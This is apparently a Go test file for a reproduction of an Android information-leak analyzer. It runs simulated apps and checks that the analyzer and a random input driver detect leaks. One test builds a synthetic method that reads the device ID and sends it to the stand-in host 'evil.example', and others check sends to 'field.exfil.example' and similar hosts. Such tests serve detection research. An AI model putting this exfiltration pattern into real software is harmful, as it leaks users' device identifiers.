package apps_test

import (
	"testing"

	"repro/internal/apps"
	"repro/internal/core"
	"repro/internal/dex"
)

func TestRegistryCoversAllCases(t *testing.T) {
	cases := map[string]bool{}
	for _, a := range apps.Registry() {
		cases[a.Case] = true
	}
	for _, want := range []string{"1", "1'", "2", "3", "4", "benign"} {
		if !cases[want] {
			t.Errorf("no app for case %q", want)
		}
	}
}

func TestAllAppsInstallAndRunVanilla(t *testing.T) {
	for _, app := range apps.Registry() {
		app := app
		t.Run(app.Name, func(t *testing.T) {
			sys, err := core.NewSystem()
			if err != nil {
				t.Fatal(err)
			}
			if err := app.Install(sys); err != nil {
				t.Fatalf("install: %v", err)
			}
			core.NewAnalyzer(sys, core.ModeVanilla)
			if err := app.Run(sys); err != nil {
				t.Fatalf("run: %v", err)
			}
		})
	}
}

func TestByName(t *testing.T) {
	if _, ok := apps.ByName("qqphonebook"); !ok {
		t.Error("qqphonebook missing")
	}
	if _, ok := apps.ByName("nonexistent"); ok {
		t.Error("bogus name resolved")
	}
}

// TestGroundTruthDataLeaves: regardless of analysis, the leaking apps really
// transmit the sensitive data (verifiable against the kernel's net/fs logs).
func TestGroundTruthDataLeaves(t *testing.T) {
	checks := map[string]func(sys *core.System) bool{
		"qqphonebook": func(sys *core.System) bool {
			return len(sys.Kern.Net.SentTo("info.3g.qq.com")) == 1
		},
		"ephone": func(sys *core.System) bool {
			return len(sys.Kern.Net.SentTo("softphone.comwave.net")) == 1
		},
		"poc-case2": func(sys *core.System) bool {
			return sys.Kern.FS.Exists("/sdcard/CONTACTS")
		},
		"case3-pull": func(sys *core.System) bool {
			return len(sys.Kern.Net.SentTo("collector.example.net")) == 1
		},
		"case4": func(sys *core.System) bool {
			return len(sys.Kern.Net.SentTo("field.exfil.example")) == 1
		},
	}
	for name, check := range checks {
		app, ok := apps.ByName(name)
		if !ok {
			t.Fatalf("missing app %s", name)
		}
		sys, err := core.NewSystem()
		if err != nil {
			t.Fatal(err)
		}
		if err := app.Install(sys); err != nil {
			t.Fatal(err)
		}
		core.NewAnalyzer(sys, core.ModeVanilla)
		if err := app.Run(sys); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if !check(sys) {
			t.Errorf("%s: ground-truth leak did not happen", name)
		}
	}
}

// TestDriverFindsLeakEventually: random driving hits the leaking entry point.
func TestDriverFindsLeakEventually(t *testing.T) {
	app, _ := apps.ByName("ephone")
	sys, err := core.NewSystem()
	if err != nil {
		t.Fatal(err)
	}
	if err := app.Install(sys); err != nil {
		t.Fatal(err)
	}
	a := core.NewAnalyzer(sys, core.ModeNDroid)
	d := apps.NewDriver(42, 5)
	hit, err := d.Exercise(sys)
	if err != nil {
		t.Fatal(err)
	}
	if len(hit) == 0 {
		t.Fatal("driver hit nothing")
	}
	if !a.Leaks.Detected(app.ExpectTag) {
		t.Error("driver-exercised app should have leaked")
	}
}

// TestDriverMissesGuardedPath demonstrates the §VII limitation: a leak
// behind an entry point the random driver never selects goes unreported.
func TestDriverMissesGuardedPath(t *testing.T) {
	sys, err := core.NewSystem()
	if err != nil {
		t.Fatal(err)
	}
	// An app with many benign entry points and one leaking one.
	cb := dex.NewClass("Lcom/test/Haystack;")
	for i := 0; i < 40; i++ {
		cb.Method("noop"+string(rune('a'+i%26))+string(rune('a'+i/26)), "V", dex.AccStatic, 1).
			Const(0, 1).
			ReturnVoid().
			Done()
	}
	cb.Method("zleak", "V", dex.AccStatic, 2).
		InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
		MoveResult(0).
		ConstString(1, "evil.example").
		InvokeStatic("Landroid/net/Network;", "send", "VLL", 1, 0).
		ReturnVoid().
		Done()
	sys.VM.RegisterClass(cb.Build())
	a := core.NewAnalyzer(sys, core.ModeNDroid)

	// Two random events across 41 entry points: overwhelmingly likely to
	// miss the leak with this seed (deterministic).
	d := apps.NewDriver(7, 2)
	if _, err := d.Exercise(sys); err != nil {
		t.Fatal(err)
	}
	if len(a.Leaks) != 0 {
		t.Skip("seed happened to find the leak; the limitation demo needs a different seed")
	}
	// Exhaustive driving does find it.
	d2 := apps.NewDriver(7, 400)
	if _, err := d2.Exercise(sys); err != nil {
		t.Fatal(err)
	}
	if len(a.Leaks) == 0 {
		t.Error("exhaustive driving should find the leak")
	}
}
